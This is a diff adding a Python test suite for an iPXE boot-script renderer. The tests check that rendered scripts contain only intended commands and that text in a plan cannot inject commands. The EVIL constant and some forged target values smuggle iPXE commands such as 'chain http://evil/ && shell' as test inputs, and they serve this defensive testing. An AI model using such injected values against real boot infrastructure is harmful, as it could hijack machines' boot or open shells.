@@ -1,0 +1,205 @@
+"""The iPXE scripts. Invariant: whatever a plan says, a script holds only the commands that we wrote."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bootlink_events import RefusalCause
+from bootlink_tftp.ipxe import COLUMNS, Text, Token, UnsafeValue, fill, say
+from bootlink_tftp.screens import RETRY_SECONDS, SCREENS, SOON_SECONDS
+from bootlink_tftp.scripts import Asker, Script, autoexec, portal_hosts, render
+from lab.boot_plans import BOOT_ID, MAC, disk, plan, refused
+
+BASE = "tftp://10.77.0.1"
+ASKER = Asker(MAC, BOOT_ID, BASE)
+NOWHERE: frozenset[str] = frozenset()
+# Commands of Debian's iPXE of 2019 (read from the strings of snponly.efi) that our scripts use.
+COMMANDS = {"echo", "set", "clear", "sanhook", "sanboot", "sanunhook", "prompt", "chain", "goto", "isset", "dhcp"}
+CONSOLE_ROWS = 25
+EVIL = "${net0/mac}\n sanboot iscsi:evil || chain http://evil/ && shell ; reboot # \\\r\n:label `<script>"
+
+
+def commands(text: str) -> list[list[str]]:
+    """A script as iPXE takes it apart (src/image/script.c, src/core/exec.c): tokens of each command in turn."""
+    first, *lines = text.split("\n")
+    assert first == "#!ipxe"
+    found: list[list[str]] = []
+    for line in lines:
+        assert not line.endswith("\\")
+        tokens = line.split()
+        if tokens and tokens[0].startswith(":"):
+            tokens = tokens[1:]
+        command: list[str] = []
+        for token in [*tokens, ";"]:
+            assert not token.startswith("#")
+            if token in ("||", "&&", ";"):
+                if command:
+                    found.append(command)
+                command = []
+            else:
+                command.append(token)
+    return found
+
+
+def check(text: str) -> list[list[str]]:
+    """Only our commands, only the settings that we mean, every goto has its label, echo takes no option."""
+    text.encode("ascii")
+    assert "\r" not in text
+    found = commands(text)
+    assert {command[0] for command in found} <= COMMANDS
+    assert set(re.findall(r"\$\{[^}]*\}?", text)) <= {"${netX/mac:hexhyp}", "${netX/ip}"}
+    labels = re.findall(r"^:(\S+)", text, re.MULTILINE)
+    assert len(labels) == len(set(labels))
+    for command in found:
+        if command[0] == "goto":
+            assert command[1] in labels
+        if command[0] == "echo":
+            assert not [*command, ""][1].startswith("-")
+        if command[0] == "chain":
+            assert command[1:3] == ["--autofree", "--replace"]
+            assert command[3].startswith(BASE)
+    return found
+
+
+def screen_rows(script: Script) -> int:
+    """Rows that a screen takes on the console."""
+    rows = [line for line in script.text.split("\n") if line.startswith(("echo", "prompt"))]
+    assert all(len(row.removeprefix("echo ")) <= COLUMNS for row in rows if row.startswith("echo"))
+    return len(rows)
+
+
+def test_a_linked_client_boots_its_disk_in_the_order_of_its_portals() -> None:
+    script = render(ASKER, plan(portals=("10.77.0.1:3260", "10.77.0.2:3261")), on_link=NOWHERE)
+    assert (script.kind, script.cause) == ("sanboot", None)
+    found = check(script.text)
+    assert found[0] == ["set", "initiator-iqn", f"iqn.2026-11.io.bootlink:52-54-00-12-34-56:{BOOT_ID}"]
+    target = "iqn.2026-11.io.bootlink:52-54-00-12-34-56"
+    assert [command[1] for command in found if command[0] == "sanhook"] == [
+        f"iscsi:10.77.0.1::3260:0:{target}",
+        f"iscsi:10.77.0.2::3261:0:{target}",
+    ]
+    assert ["set", "netX/gateway", "10.77.0.1"] not in found
+
+
+def test_the_gateway_is_the_target_where_it_is_on_the_same_link() -> None:
+    portals = ("10.77.0.1:3260", "10.99.0.2:3260")
+    found = check(render(ASKER, plan(portals=portals), on_link=frozenset({"10.77.0.1"})).text)
+    gateway = found.index(["set", "netX/gateway", "10.77.0.1"])
+    assert found[gateway + 1][0] == "sanhook"
+    assert found[gateway + 3] == ["clear", "netX/gateway"], "the next portal is reached as DHCP says"
+    assert sum(command[:2] == ["set", "netX/gateway"] for command in found) == 1
+
+
+def test_the_lun_is_hexadecimal_and_the_lowest_one_boots() -> None:
+    script = render(ASKER, plan(disks=(disk(lun=12, image="data"), disk(lun=10, image="system"))), on_link=NOWHERE)
+    assert "::3260:a:iqn" in script.text
+    assert "boots system version 3" in script.text
+
+
+def test_a_failed_disk_shows_which_step_failed_and_asks_again_under_that_name() -> None:
+    found = check(render(ASKER, plan(), on_link=NOWHERE).text)
+    chained = [command[3] for command in found if command[0] == "chain"]
+    assert chained == [
+        f"{BASE}/boot/{BOOT_ID}/52-54-00-12-34-56.attach.ipxe",
+        f"{BASE}/boot/{BOOT_ID}/52-54-00-12-34-56.start.ipxe",
+    ]
+    names = [command[0] for command in found]
+    assert names[names.index("sanboot") + 1] == "sanunhook", "else the next attempt finds the drive number taken"
+
+
+@pytest.mark.parametrize("cause", ["no_link", "image_missing", "no_blockstore", "disabled"])
+def test_a_refusal_is_shown_with_its_cause_and_remedy(cause: RefusalCause) -> None:
+    script = render(ASKER, refused(cause, "The link names win12.", "bootlink image list"), on_link=NOWHERE)
+    check(script.text)
+    assert (script.kind, script.cause) == ("screen", cause)
+    for words in (SCREENS[cause].title, "The link names win12.", "bootlink image list", MAC, "pc-001", str(BOOT_ID)):
+        assert words in script.text
+    assert f"--timeout {RETRY_SECONDS * 1000} " in script.text
+
+
+def test_an_unknown_client_is_asked_again_sooner() -> None:
+    script = render(ASKER, None, on_link=NOWHERE)
+    check(script.text)
+    assert script.cause == "unknown_client"
+    assert f"bootlink client add {MAC}" in script.text
+    assert f"--timeout {SOON_SECONDS * 1000} " in script.text
+
+
+def test_a_server_that_has_not_read_its_plans_does_not_call_the_client_unknown() -> None:
+    assert render(ASKER, None, on_link=NOWHERE, plans_read=False).cause == "plans_unread"
+
+
+def test_a_plan_without_disks_or_portals_says_so() -> None:
+    assert render(ASKER, plan(disks=()), on_link=NOWHERE).cause == "no_link"
+    assert render(ASKER, plan(portals=()), on_link=NOWHERE).cause == "no_blockstore"
+    assert render(ASKER, plan(portals=("[fd00::1]:3260",)), on_link=NOWHERE).cause == "bad_plan"
+
+
+@pytest.mark.parametrize("cause", ["no_link", "image_missing", "no_blockstore", "disabled"])
+def test_every_screen_fits_the_console(cause: RefusalCause) -> None:
+    long = "a very long explanation of what is wrong with this and that " * 20
+    assert screen_rows(render(ASKER, refused(cause, long, long), on_link=NOWHERE)) < CONSOLE_ROWS - 3
+    assert screen_rows(render(ASKER, None, on_link=NOWHERE)) < CONSOLE_ROWS - 3
+
+
+def test_a_client_name_cannot_inject_a_command() -> None:
+    script = render(ASKER, plan(client=EVIL, disks=(disk(image=EVIL),)), on_link=NOWHERE)
+    assert script.kind == "sanboot"
+    check(script.text)
+    assert "evil" in script.text, "it is shown, without its teeth"
+    check(render(ASKER, refused("no_link", EVIL, EVIL), on_link=NOWHERE).text)
+
+
+@pytest.mark.parametrize("target", ["iqn.x sanboot", "iqn.x\nshell", "iqn.${x}", "", "-x", "iqn.x||shell"])
+def test_a_forged_target_shows_a_screen_instead_of_booting(target: str) -> None:
+    script = render(ASKER, plan(target=target), on_link=NOWHERE)
+    assert (script.kind, script.cause) == ("screen", "bad_plan")
+    check(script.text)
+
+
+@given(
+    client=st.text(max_size=80), image=st.text(max_size=80), target=st.text(max_size=60), portal=st.text(max_size=30)
+)
+def test_no_text_in_a_plan_becomes_a_command(client: str, image: str, target: str, portal: str) -> None:
+    evil = plan(client=client, disks=(disk(image=image),), target=target, portals=(portal, "10.77.0.1:3260"))
+    check(render(ASKER, evil, on_link=frozenset(portal_hosts(evil))).text)
+
+
+@given(detail=st.text(max_size=400), remedy=st.text(max_size=400))
+def test_no_text_in_a_refusal_becomes_a_command(detail: str, remedy: str) -> None:
+    script = render(ASKER, refused("no_link", detail, remedy), on_link=NOWHERE)
+    check(script.text)
+    assert screen_rows(script) < CONSOLE_ROWS - 3
+
+
+def test_autoexec_leads_to_the_pcs_own_script_in_the_same_boot() -> None:
+    check(autoexec(BASE, BOOT_ID))
+    assert f"{BASE}/boot/{BOOT_ID}/${{netX/mac:hexhyp}}.ipxe" in autoexec(BASE, BOOT_ID)
+    assert f"chain --autofree --replace {BASE}/${{netX/mac:hexhyp}}.ipxe" in autoexec(BASE, None)
+
+
+def test_a_token_is_taken_as_it_is_or_not_at_all() -> None:
+    assert Token("iscsi:10.0.0.1::3260:0:iqn.x:y") == "iscsi:10.0.0.1::3260:0:iqn.x:y"
+    for bad in ("a b", "a\tb", "", "-a", "a;b", "${a}", "a\\", "a#b", "ä"):
+        with pytest.raises(UnsafeValue):
+            Token(bad)
+
+
+def test_text_loses_what_ipxe_would_understand() -> None:
+    assert Text("a ${b}\n || c # \\") == "a ??b? ?? c ? ?"
+
+
+def test_a_field_without_a_value_is_a_bug() -> None:
+    with pytest.raises(KeyError):
+        fill(("echo {missing}",))
+
+
+def test_words_are_wrapped_and_cut() -> None:
+    rows = say("Cause", "word " * 200, rows=3)
+    assert len(rows) == 3
+    assert rows[-1].endswith("...")
+    assert all(len(row) <= COLUMNS + len("echo ") for row in rows)
